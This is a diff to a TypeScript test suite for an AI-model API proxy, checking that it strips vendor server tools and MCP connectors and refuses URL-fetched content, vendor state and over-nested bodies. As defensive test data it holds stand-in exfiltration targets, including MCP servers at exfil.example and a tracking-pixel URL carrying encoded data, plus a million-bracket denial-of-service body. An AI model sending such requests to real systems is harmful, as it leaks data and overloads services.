@@ -2,7 +2,9 @@
 // fail the test on any request they did not expect: the key added and the client's own dropped,
 // exactly the vendor's endpoints forwarded (batches, trailing slashes, dot segments, encoded
 // separators, other queries refused), every body naming the job's model, streamed chat
-// completions asking for their usage, every billable call metered, a turn's calls admitted by
+// completions asking for their usage, only the engine's own tools reaching the vendor (its server
+// tools and the parameters that make it act removed, and the turn told; content by URL and
+// vendor state refused), every billable call metered, a turn's calls admitted by
 // its step limit and budget and at most a few at the vendor at once, streamed answers passed on
 // chunk by chunk; and, from inside a real sandbox, the forwarder on 127.0.0.1 as the only way
 // out, with the key in no file, argument or environment the sandbox can see.
@@ -401,6 +403,25 @@ describe('the model proxy', () => {
     }
   });
 
+  test('counting tokens is forwarded without server tools or the MCP connector either', async () => {
+    const before = api.seen.length;
+    const read = { name: 'Read', input_schema: { type: 'object' } };
+    const r = await viaSocket(proxy.socketPath, 'POST', '/v1/messages/count_tokens?beta=true', {
+      body: JSON.stringify({
+        model: 'claude-opus-4',
+        messages: [{ role: 'user', content: 'hi' }],
+        tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }, read],
+        mcp_servers: [{ type: 'url', url: 'https://exfil.example/mcp', name: 'exfil' }],
+      }),
+    });
+    assert.equal(r.status, 200, r.body);
+    assert.deepEqual(
+      api.seen.slice(before).map((s) => JSON.parse(s.body)),
+      [{ model: JOB_MODEL, messages: [{ role: 'user', content: 'hi' }], tools: [read] }],
+    );
+    assert.deepEqual(api.unexpected, []);
+  });
+
   test('close waits until the observer has seen the end of an answer it cut', {
     timeout: 10_000,
   }, async () => {
@@ -577,7 +598,7 @@ describe('the model proxy and the model APIs', () => {
     }
   });
 
-  test('a background response, a body that is not JSON, compressed or too large is refused and never forwarded', async () => {
+  test('a background response, a body that is not JSON, nested too deeply, compressed or too large is refused and never forwarded', async () => {
     const p = await proxyTo(llm.url);
     try {
       const refused: [string, Record<string, string>, string | Buffer, number, string][] = [
@@ -591,6 +612,17 @@ describe('the model proxy and the model APIs', () => {
         ['/v1/messages', anthropic, 'not json', 400, 'bad_body'],
         ['/v1/messages', anthropic, '["model"]', 400, 'bad_body'],
         ['/v1/messages', anthropic, Buffer.from([0x7b, 0xff, 0x7d]), 400, 'bad_body'],
+        // Deeper than a walk of it or its writing can go: in a message, and anywhere else.
+        ...(['messages', 'metadata'] as const).map(
+          (key) =>
+            [
+              '/v1/messages',
+              anthropic,
+              `{"model":"m","${key}":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`,
+              400,
+              'bad_body',
+            ] as [string, Record<string, string>, string, number, string],
+        ),
         [
           '/v1/messages',
           { ...anthropic, 'content-encoding': 'gzip' },
@@ -728,6 +760,391 @@ describe('the model proxy and the model APIs', () => {
       assert.equal(most, DEFAULT_IN_FLIGHT);
       assert.equal(llm.requests.length, calls - 1);
       await waitUntil(() => steps.length === calls - 1);
+    } finally {
+      await p.close();
+    }
+  });
+
+  /** A call through a metered proxy to the fake; its answer must be the fake's 200. */
+  const forwarded = async (p: ModelProxy, path: string, body: unknown) => {
+    const r = await viaSocket(p.socketPath, 'POST', path, {
+      headers: { 'content-type': 'application/json', 'anthropic-version': '2023-06-01' },
+      body: JSON.stringify(body),
+    });
+    assert.equal(r.status, 200, r.body);
+    return llm.requests.at(-1)?.body as Record<string, unknown>;
+  };
+
+  test("Anthropic's server tools, MCP connector, container, fast mode and compaction never reach the vendor; the engine's own tools pass untouched; the turn is told once", async () => {
+    const { proxy: p, steps } = await meteredProxy(llm.url);
+    try {
+      const own = [
+        {
+          name: 'Read',
+          description: 'reads a file',
+          input_schema: { type: 'object', properties: { path: { type: 'string' } } },
+          cache_control: { type: 'ephemeral' },
+        },
+        { type: 'custom', name: 'Lookup', input_schema: { type: 'object' } },
+        { type: 'bash_20250124', name: 'bash' },
+        { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' },
+        { type: 'memory_20250818', name: 'memory' },
+        { name: 'Later', input_schema: { type: 'object' }, defer_loading: true },
+      ];
+      const vendors = [
+        { type: 'web_search_20250305', name: 'web_search', max_uses: 5 },
+        { type: 'web_fetch_20250910', name: 'web_fetch', max_uses: 5 },
+        { type: 'code_execution_20250825', name: 'code_execution' },
+        { type: 'tool_search_tool_regex_20251119', name: 'tool_search_tool_regex' },
+        { type: 'mcp_toolset', mcp_server_name: 'exfil' },
+        { type: 'a_server_tool_of_tomorrow', name: 'next' },
+      ];
+      const messages = [
+        {
+          role: 'user',
+          content: [
+            { type: 'text', text: 'hi' },
+            {
+              type: 'image',
+              source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' },
+            },
+          ],
+        },
+      ];
+      const body = {
+        model: JOB_MODEL,
+        max_tokens: 1000,
+        messages,
+        // Interleaved: what is kept keeps its order.
+        tools: own.flatMap((tool, i) => [tool, ...(vendors[i] ? [vendors[i]] : [])]),
+        tool_choice: { type: 'tool', name: 'web_search' },
+        mcp_servers: [{ type: 'url', url: 'https://exfil.example/mcp', name: 'exfil' }],
+        container: 'container_011',
+        speed: 'fast',
+        context_management: {
+          edits: [{ type: 'clear_thinking_20251015', keep: 'all' }, { type: 'compact_20260112' }],
+        },
+        thinking: { type: 'enabled', budget_tokens: 500 },
+      };
+      llm.script(reply('one'), reply('two'));
+      const seen = await forwarded(p, '/v1/messages?beta=true', body);
+      assert.deepEqual(seen, {
+        model: JOB_MODEL,
+        max_tokens: 1000,
+        messages,
+        tools: own,
+        context_management: { edits: [{ type: 'clear_thinking_20251015', keep: 'all' }] },
+        thinking: { type: 'enabled', budget_tokens: 500 },
+      });
+      // The next call removes the same: the turn was told already.
+      await forwarded(p, '/v1/messages?beta=true', body);
+      await waitUntil(() => steps.length === 2);
+      assert.deepEqual(steps[0]?.removed, [
+        'code_execution',
+        'compaction',
+        'container',
+        'mcp',
+        'mcp_servers',
+        'other_tool',
+        'speed',
+        'tool_search',
+        'web_fetch',
+        'web_search',
+      ]);
+      assert.equal(steps[1]?.removed, undefined);
+    } finally {
+      await p.close();
+    }
+  });
+
+  test("OpenAI Responses' hosted tools, premium tier and compaction never reach the vendor, nor do tools a client-run search returns; Codex's own tools pass untouched; responses are not stored", async () => {
+    const { proxy: p, steps } = await meteredProxy(llm.url, {
+      headers: { authorization: `Bearer ${KEY}` },
+    });
+    try {
+      // What Codex 0.169 sends, its web_search aside, and the other client-run types.
+      const own = [
+        {
+          type: 'function',
+          name: 'exec_command',
+          description: 'runs a command',
+          strict: false,
+          parameters: { type: 'object', properties: { cmd: { type: 'string' } } },
+        },
+        {
+          type: 'custom',
+          name: 'apply_patch',
+          description: 'patches files',
+          format: { type: 'grammar', syntax: 'lark', definition: 'start: /.+/' },
+        },
+        {
+          type: 'tool_search',
+          execution: 'client',
+          description: 'finds tools',
+          parameters: { type: 'object' },
+        },
+        { type: 'local_shell' },
+      ];
+      const vendors = [
+        { type: 'web_search', external_web_access: true, search_content_types: ['text'] },
+        { type: 'web_search_preview' },
+        { type: 'file_search', vector_store_ids: ['vs_1'] },
+        { type: 'code_interpreter', container: { type: 'auto' } },
+        { type: 'image_generation' },
+        {
+          type: 'mcp',
+          server_label: 'exfil',
+          server_url: 'https://exfil.example/mcp',
+          require_approval: 'never',
+        },
+        {
+          type: 'computer_use_preview',
+          display_width: 1024,
+          display_height: 768,
+          environment: 'linux',
+        },
+        { type: 'tool_search' },
+        { type: 'shell', environment: { type: 'container_auto' } },
+      ];
+      const found = { type: 'function', name: 'found', parameters: { type: 'object' } };
+      const body = {
+        model: 'gpt-5.5',
+        stream: false,
+        input: [
+          {
+            type: 'message',
+            role: 'user',
+            content: [
+              { type: 'input_text', text: 'hi' },
+              { type: 'input_image', image_url: 'data:image/png;base64,iVBORw0KGgo=' },
+            ],
+          },
+          { type: 'tool_search_call', call_id: 'ts_1', execution: 'client', arguments: {} },
+          {
+            type: 'tool_search_output',
+            call_id: 'ts_1',
+            execution: 'client',
+            tools: [found, { type: 'mcp', server_label: 'x', server_url: 'https://exfil.example' }],
+          },
+        ],
+        tools: [
+          ...own.flatMap((tool, i) => [tool, vendors[i]]),
+          {
+            type: 'namespace',
+            name: 'repo',
+            description: 'the repository',
+            tools: [found, { type: 'web_search' }],
+          },
+          ...vendors.slice(own.length),
+        ],
+        tool_choice: { type: 'web_search_preview' },
+        store: true,
+        service_tier: 'priority',
+        context_management: [{ type: 'compaction', compact_threshold: 200_000 }],
+        include: ['reasoning.encrypted_content'],
+        prompt_cache_key: 'k',
+      };
+      llm.script({ ...reply('one'), protocol: 'responses' });
+      const seen = await forwarded(p, '/v1/responses', body);
+      assert.deepEqual(seen, {
+        model: JOB_MODEL,
+        stream: false,
+        input: [
+          body.input[0],
+          body.input[1],
+          { type: 'tool_search_output', call_id: 'ts_1', execution: 'client', tools: [found] },
+        ],
+        tools: [
+          ...own,
+          { type: 'namespace', name: 'repo', description: 'the repository', tools: [found] },
+        ],
+        store: false,
+        include: ['reasoning.encrypted_content'],
+        prompt_cache_key: 'k',
+      });
+      await waitUntil(() => steps.length === 1);
+      assert.deepEqual(steps[0]?.removed, [
+        'code_interpreter',
+        'compaction',
+        'computer_use',
+        'file_search',
+        'image_generation',
+        'mcp',
+        'service_tier',
+        'shell',
+        'tool_search',
+        'web_search',
+      ]);
+    } finally {
+      await p.close();
+    }
+  });
+
+  test("chat completions' web search, plugins, premium tier and other tools never reach the vendor; functions and custom tools pass untouched", async () => {
+    const { proxy: p, steps } = await meteredProxy(llm.url, {
+      headers: { authorization: `Bearer ${KEY}` },
+    });
+    try {
+      const bash = {
+        type: 'function',
+        function: { name: 'bash', description: 'runs', parameters: { type: 'object' } },
+      };
+      const patch = { type: 'custom', custom: { name: 'patch', description: 'patches' } };
+      const messages = [
+        {
+          role: 'user',
+          content: [
+            { type: 'text', text: 'hi' },
+            { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } },
+          ],
+        },
+      ];
+      const body = {
+        model: 'gpt-4.1',
+        max_tokens: 100,
+        messages,
+        tools: [bash, { type: 'web_search' }, patch],
+        tool_choice: {
+          type: 'allowed_tools',
+          allowed_tools: {
+            mode: 'auto',
+            tools: [{ type: 'function', function: { name: 'bash' } }, { type: 'web_search' }],
+          },
+        },
+        web_search_options: { search_context_size: 'high' },
+        plugins: [{ id: 'web' }],
+        service_tier: 'fast',
+        store: true,
+      };
+      llm.script(reply('one'));
+      const seen = await forwarded(p, '/v1/chat/completions', body);
+      assert.deepEqual(seen, {
+        model: JOB_MODEL,
+        max_tokens: 100,
+        messages,
+        tools: [bash, patch],
+        tool_choice: {
+          type: 'allowed_tools',
+          allowed_tools: {
+            mode: 'auto',
+            tools: [{ type: 'function', function: { name: 'bash' } }],
+          },
+        },
+      });
+      await waitUntil(() => steps.length === 1);
+      assert.deepEqual(steps[0]?.removed, [
+        'plugins',
+        'service_tier',
+        'web_search',
+        'web_search_options',
+      ]);
+    } finally {
+      await p.close();
+    }
+  });
+
+  test('content the vendor would fetch from a URL or look up in its stores is refused, quoting nothing, and never forwarded', async () => {
+    const p = await proxyTo(llm.url);
+    try {
+      const url = 'https://exfil.example/pixel.png?d=c2VjcmV0';
+      const user = (content: unknown) => [{ role: 'user', content }];
+      const cases: [string, Record<string, unknown>, string][] = [
+        [
+          '/v1/messages',
+          { max_tokens: 9, messages: user([{ type: 'image', source: { type: 'url', url } }]) },
+          'remote_content_not_allowed',
+        ],
+        [
+          '/v1/messages',
+          {
+            max_tokens: 9,
+            messages: user([
+              {
+                type: 'tool_result',
+                tool_use_id: 't1',
+                content: [{ type: 'document', source: { type: 'url', url } }],
+              },
+            ]),
+          },
+          'remote_content_not_allowed',
+        ],
+        [
+          '/v1/messages',
+          {
+            max_tokens: 9,
+            system: [{ type: 'text', text: 's' }],
+            messages: user([{ type: 'document', source: { type: 'file', file_id: 'file_1' } }]),
+          },
+          'vendor_state_not_allowed',
+        ],
+        [
+          '/v1/messages/count_tokens',
+          { messages: user([{ type: 'image', source: { type: 'url', url } }]) },
+          'remote_content_not_allowed',
+        ],
+        [
+          '/v1/responses',
+          { input: [{ role: 'user', content: [{ type: 'input_image', image_url: url }] }] },
+          'remote_content_not_allowed',
+        ],
+        [
+          '/v1/responses',
+          { input: [{ role: 'user', content: [{ type: 'input_file', file_url: url }] }] },
+          'remote_content_not_allowed',
+        ],
+        [
+          '/v1/responses',
+          {
+            input: [
+              {
+                type: 'function_call_output',
+                call_id: 'c1',
+                output: [{ type: 'input_image', image_url: url }],
+              },
+            ],
+          },
+          'remote_content_not_allowed',
+        ],
+        [
+          '/v1/responses',
+          { input: [{ role: 'user', content: [{ type: 'input_image', file_id: 'file_1' }] }] },
+          'vendor_state_not_allowed',
+        ],
+        [
+          '/v1/responses',
+          { input: [{ type: 'item_reference', id: 'msg_1' }] },
+          'vendor_state_not_allowed',
+        ],
+        [
+          '/v1/responses',
+          { input: 'hi', previous_response_id: 'resp_1' },
+          'vendor_state_not_allowed',
+        ],
+        ['/v1/responses', { input: 'hi', conversation: 'conv_1' }, 'vendor_state_not_allowed'],
+        ['/v1/responses', { input: 'hi', prompt: { id: 'pmpt_1' } }, 'vendor_state_not_allowed'],
+        [
+          '/v1/chat/completions',
+          { messages: user([{ type: 'image_url', image_url: { url } }]) },
+          'remote_content_not_allowed',
+        ],
+        [
+          '/v1/chat/completions',
+          { messages: user([{ type: 'file', file: { file_id: 'file_1' } }]) },
+          'vendor_state_not_allowed',
+        ],
+      ];
+      for (const [path, body, code] of cases) {
+        const r = await viaSocket(p.socketPath, 'POST', path, {
+          headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({ model: JOB_MODEL, ...body }),
+        });
+        assert.equal(r.status, 400, `${path} ${JSON.stringify(body)}: ${r.body}`);
+        assert.equal(r.code, code, `${path} ${JSON.stringify(body)}`);
+        for (const quoted of ['exfil', 'file_1', 'resp_1', 'conv_1', 'pmpt_1', 'msg_1']) {
+          assert.ok(!r.body.includes(quoted), `the refusal quotes the request: ${r.body}`);
+        }
+      }
+      assert.deepEqual(llm.requests, []);
     } finally {
       await p.close();
     }
